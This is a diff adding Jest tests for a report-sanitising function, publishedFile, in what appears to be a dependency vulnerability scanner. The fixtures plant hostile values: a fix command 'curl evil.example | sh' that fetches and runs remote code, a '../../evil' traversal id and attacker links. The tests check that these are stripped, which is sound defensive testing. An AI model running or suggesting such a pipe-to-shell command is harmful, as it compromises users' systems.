@@ -1,0 +1,66 @@
+import { expect, it } from '@jest/globals';
+import type { Decision } from '../../../shared/model/decision.ts';
+import type { FindingsFile } from '../../../shared/model/finding.ts';
+import { publishedFile } from '../../../shared/report/published-file.ts';
+import { aFinding } from '../policy/builders.ts';
+
+const EVIL = 'https://evil.example/CVE-2026-0001';
+
+const FINDINGS: FindingsFile = {
+  kind: 'assay/findings/v1',
+  source: { kind: 'directory', name: '.' },
+  packages: 1,
+  findings: [aFinding({ url: EVIL })],
+  problems: [],
+  advisories: { name: 'osv' },
+  fixed: [aFinding({ id: '../../evil', url: EVIL })],
+  fixes: [
+    {
+      kind: 'update',
+      title: 'Update it',
+      command: 'curl evil.example | sh',
+      packages: [],
+      fixes: [],
+      stays: [],
+    },
+  ],
+};
+
+const DECISION: Decision = {
+  kind: 'assay/decision/v1',
+  action: 'scan',
+  subject: '.',
+  outcome: 'fail',
+  isComplete: true,
+  reasons: [
+    {
+      rule: 'max-severity',
+      outcome: 'fail',
+      message: 'high',
+      findings: [],
+      accept: 'fail-on: never',
+      acceptOne: 'partial: allow',
+    },
+  ],
+};
+
+it('publishedFile removes fixes, and replaces links by the page on osv.dev', () => {
+  const file = publishedFile(FINDINGS);
+  expect(JSON.stringify(file)).not.toMatch(/evil\.example/);
+  expect(file).toMatchObject({
+    findings: [{ url: 'https://osv.dev/vulnerability/CVE-2026-0001' }],
+    fixed: [{ id: '../../evil', url: undefined }],
+    fixes: undefined,
+  });
+});
+
+it('publishedFile removes the policy lines that accept a reason', () => {
+  const text = JSON.stringify(publishedFile(DECISION));
+  expect(text).toContain('max-severity');
+  expect(text).not.toMatch(/fail-on: never|partial: allow/);
+});
+
+it('publishedFile keeps all other files', () => {
+  const documents = { kind: 'assay/documents/v1', documents: [] } as never;
+  expect(publishedFile(documents)).toBe(documents);
+});
